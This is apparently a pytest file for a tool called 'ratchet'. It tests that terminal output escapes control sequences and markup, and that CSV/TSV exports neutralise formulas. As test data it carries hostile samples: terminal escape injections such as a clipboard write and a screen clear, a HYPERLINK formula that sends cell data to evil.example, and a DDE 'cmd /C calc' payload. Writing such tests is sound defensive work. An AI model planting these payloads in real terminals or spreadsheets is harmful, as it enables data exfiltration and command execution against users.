"""Texts from a run or a proposer reach the terminal with their control characters escaped,
never as rich markup; CSV and TSV cells a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import EXAMPLES, commit_all, git

from ratchet.execute.gitrepo import GitRepo
from ratchet.records import (
    BASELINE,
    CRASH,
    DISCARD,
    IMPORTED,
    KEEP,
    PROPOSAL,
    Experiment,
    StudyRecord,
)
from ratchet.reports.safe_text import printable
from ratchet.store.database import Store, default_url

# An OSC 52 clipboard write, a screen clear, a carriage return, an 8-bit CSI, a bidi override,
# rich markup and a rich link, then ordinary unicode.
ATTACK = ("fix\x1b]52;c;ZXZpbA==\x07 \x1b[2J\rover \x9b31m red \u202eevil "
          "[bold red]x[/] [link=https://evil.example]y[/link] é 中文 🙂")
SHOWN = ("fix\\x1b]52;c;ZXZpbA==\\x07 \\x1b[2J\\rover \\x9b31m red \\u202eevil "
         "[bold red]x[/] [link=https://evil.example]y[/link] é 中文 🙂")
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\r")
# The edit `ratchet try` evaluates: a comment with raw escapes (the diff) and a print of them
# (the log).
COMMENT = "# note \x1b]0;title\x07 \u202edone"
PRINTED = 'print("\\x1b]0;pwned\\x07 \\x1b[2J \\u2066")'


def ratchet(repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "ratchet.cli", *args], cwd=repo,
                          capture_output=True, text=True, timeout=300)


def assert_clean(text: str) -> None:
    found = [char for char in RAW if char in text]
    assert not found, f"raw {found!r} in output:\n{text!r}"


@pytest.fixture(scope="module")
def tried(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """The quadratic task with one `ratchet try` (study `attack`) whose description, diff and
    log carry escape sequences; and what `ratchet try` printed."""
    repo = tmp_path_factory.mktemp("hygiene") / "quadratic"
    shutil.copytree(EXAMPLES / "quadratic", repo)
    git(repo, "init", "-q")
    commit_all(repo, "initial")
    objective = repo / "objective.py"
    objective.write_text(objective.read_text().replace("X = 0.0", f"X = 0.5\n{COMMENT}")
                         + PRINTED + "\n")
    result = ratchet(repo, "try", "-m", ATTACK, "--study", "attack", "--plain")
    assert result.returncode == 0, result.stderr
    return repo, result.stdout + result.stderr


@pytest.fixture
def repo(tried: tuple[Path, str]) -> Path:
    return tried[0]


def add_study(repo: Path, name: str, experiments: list[Experiment]) -> None:
    """A finished study straight into the repository's store, as `ratchet import` writes one."""
    root = GitRepo.find(repo).root
    store = Store(default_url(root))
    store.create_study(StudyRecord(name=name, task="quadratic", repo_root=str(root),
                                   base_commit="imported", proposer=IMPORTED, rule="imported",
                                   settings={"metric": "loss", "goal": "minimize"}),
                       experiments)


def test_printable_escapes_controls_and_bidi_and_keeps_unicode() -> None:
    assert printable(ATTACK) == SHOWN
    assert printable("a\tb\nc") == "a\\tb\\nc"  # one line: tab and newline escaped too
    assert printable("\x00\x7f\x85\u2028\u200f\u2066\udcff") == \
        "\\x00\\x7f\\x85\\u2028\\u200f\\u2066\\udcff"
    kept = "naïve Ünïcödé 中文 日本語 한국어 🙂 👨‍👩‍👧 \\x1b as typed"
    assert printable(kept) == kept and printable(kept, multiline=True) == kept
    diff = "--- a/f\n+++ b/f\n+\tx = 1\x1b[2J\r\n-y\n"
    assert printable(diff, multiline=True) == "--- a/f\n+++ b/f\n+\tx = 1\\x1b[2J\\r\n-y\n"


def test_try_prints_the_finished_experiment_escaped(tried: tuple[Path, str]) -> None:
    assert_clean(tried[1])
    assert SHOWN in tried[1]  # the line printed as the experiment finished


def test_show_escapes_description_diff_and_log(repo: Path) -> None:
    result = ratchet(repo, "show", "1", "--study", "attack")
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert_clean(out)
    assert f"description: {SHOWN}\n" in out
    diff = out.split("--- diff ---\n")[1]
    assert "\n+# note \\x1b]0;title\\x07 \\u202edone\n" in diff  # escaped, still its own line
    assert "\n-X = 0.0\n" in diff and "\n+X = 0.5\n" in diff
    assert "\\x1b]0;pwned\\x07 \\x1b[2J \\u2066" in out.split("--- log tail")[1]


def test_log_and_best_escape_the_description(repo: Path) -> None:
    log = ratchet(repo, "log", "--study", "attack", "--plain")
    assert log.returncode == 0, log.stderr
    assert_clean(log.stdout)
    rows = log.stdout.splitlines()
    assert len(rows) == 3 and rows[2].split("\t")[7] == SHOWN  # columns stay columns
    best = ratchet(repo, "best", "--study", "attack")
    assert best.returncode == 0, best.stderr
    assert_clean(best.stdout)
    assert best.stdout.startswith("best: experiment 1, ") and f"({SHOWN})\n" in best.stdout
    assert "+# note \\x1b]0;title\\x07 \\u202edone\n" in best.stdout  # the kept diff


def test_log_on_a_terminal_prints_no_markup_and_no_raw_escapes(repo: Path) -> None:
    """On a terminal, `ratchet log` draws a rich table: its only escape sequences are rich's
    own colours, and the description's "[bold red]" and "[link=...]" print as written."""
    leader, follower = pty.openpty()
    env = {**os.environ, "COLUMNS": "400", "LINES": "50", "TERM": "xterm-256color"}
    env.pop("NO_COLOR", None)
    process = subprocess.Popen([sys.executable, "-m", "ratchet.cli", "log", "--study", "attack"],
                               cwd=repo, stdin=follower, stdout=follower, stderr=follower,
                               env=env)
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the other side closed
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    assert process.wait(timeout=300) == 0
    out = b"".join(chunks).decode()
    text = re.sub(r"\x1b\[[0-9;]*m", "", out).replace("\r\n", "\n")  # rich's colours; the tty
    assert_clean(text)
    assert "\x1b]8;" not in out  # no hyperlink made from "[link=...]"
    assert SHOWN in text


def test_show_and_log_escape_a_failed_experiments_reason_and_rationale(repo: Path) -> None:
    add_study(repo, "failed", [
        Experiment(study_id=0, number=0, kind=BASELINE, status=KEEP, value=1.0, values=[1.0],
                   description="baseline"),
        Experiment(study_id=0, number=1, kind=PROPOSAL, status=CRASH, description="try",
                   reason="Traceback\x1b[2J\u202e", diff="+a = 1\x9b\n-a = 2\n",
                   rationale={"hypothesis": "faster\x07", "model": "m\x1b]0;t\x07"}),
    ])
    show = ratchet(repo, "show", "1", "--study", "failed")
    assert show.returncode == 0, show.stderr
    assert_clean(show.stdout)
    assert "\nreason: Traceback\\x1b[2J\\u202e\n" in show.stdout
    assert "\nhypothesis: faster\\x07\n" in show.stdout
    assert "\nmodel: m\\x1b]0;t\\x07\n" in show.stdout
    assert "--- diff ---\n+a = 1\\x9b\n-a = 2\n" in show.stdout
    log = ratchet(repo, "log", "--study", "failed")
    assert_clean(log.stdout)
    assert log.stdout.splitlines()[2].endswith("\ttry [Traceback\\x1b[2J\\u202e]")


def test_status_escapes_a_study_name(repo: Path) -> None:
    add_study(repo, "evil\x1b]0;x\x07\u202e[red]n[/]", [Experiment(
        study_id=0, number=0, kind=BASELINE, status=KEEP, value=1.0, values=[1.0],
        description="baseline")])
    result = ratchet(repo, "status")
    assert result.returncode == 0, result.stderr
    assert_clean(result.stdout)
    assert "evil\\x1b]0;x\\x07\\u202e[red]n[/]\timport\t1\t" in result.stdout


def test_csv_and_tsv_exports_neutralise_formulas_and_keep_numbers(repo: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    add_study(repo, "sheet", [
        Experiment(study_id=0, number=0, kind=BASELINE, status=KEEP, value=1.0, values=[1.0],
                   description="baseline"),
        Experiment(study_id=0, number=1, kind=PROPOSAL, status=DISCARD, value=1.0123,
                   values=[1.0123], delta=-0.0123, description=formula,
                   reason=" @SUM(1+1)*cmd|' /C calc'!A0"),
        Experiment(study_id=0, number=2, kind=PROPOSAL, status=DISCARD, value=1.5,
                   values=[1.5], delta=-0.5, description="-2", reason="+\x1b[2J"),
    ])
    exported = ratchet(repo, "export", "--study", "sheet", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    assert_clean(exported.stdout)
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert rows[1]["description"] == "'" + formula
    assert rows[1]["reason"] == "' @SUM(1+1)*cmd|' /C calc'!A0"  # after leading whitespace
    assert rows[1]["delta"] == "-0.0123" and float(rows[1]["delta"]) == -0.0123
    assert rows[1]["value"] == "1.0123" and rows[0]["description"] == "baseline"
    assert rows[2]["description"] == "-2"  # a number stays a number
    assert rows[2]["reason"] == "'+\\x1b[2J"
    tsv = ratchet(repo, "export", "--study", "sheet", "--format", "tsv").stdout
    assert tsv.splitlines()[2].split("\t")[4] == "'" + formula
    jsonl = ratchet(repo, "export", "--study", "sheet", "--format", "jsonl").stdout
    exact = [json.loads(line) for line in jsonl.splitlines()]
    assert exact[1]["description"] == formula and exact[2]["reason"] == "+\x1b[2J"
